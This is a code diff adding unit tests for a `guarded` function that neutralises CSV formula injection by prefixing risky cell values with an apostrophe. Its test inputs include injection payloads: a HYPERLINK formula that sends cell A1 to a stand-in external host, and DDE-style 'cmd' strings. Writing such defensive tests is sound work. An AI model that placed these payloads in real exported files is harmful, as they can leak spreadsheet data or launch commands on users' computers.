@@ -1,4 +1,4 @@
-import { toCsv } from './csv';
+import { guarded, toCsv } from './csv';
 
 async function csvOf(names: string[], json: string, chunk = Infinity) {
   const bytes = Buffer.from(json);
@@ -104,5 +104,36 @@ describe('toCsv', () => {
       expect((await lines.next()).value).toContain('xxx');
     expect(sent).toBeLessThanOrEqual(1_001);
     await lines.return(undefined);
+  });
+});
+
+describe('guarded', () => {
+  it.each([
+    '=1+1',
+    '=HYPERLINK("https://elsewhere.example/?"&A1,"click")',
+    '+cmd|x!A1',
+    '-1+cmd|x',
+    '@SUM(A1)',
+    '  =1',
+    '\t=1',
+    '\r=1',
+    '\n',
+    '\uFF1D1+1',
+  ])('puts an apostrophe before %j', text => {
+    expect(guarded(text)).toBe(`'${text}`);
+  });
+
+  it.each([
+    '',
+    'a=b',
+    '-1',
+    '+1.5',
+    '-1e-7',
+    '1-2',
+    '2026-11-20',
+    'x@y.z',
+    '–',
+  ])('leaves %j as it is', text => {
+    expect(guarded(text)).toBe(text);
   });
 });
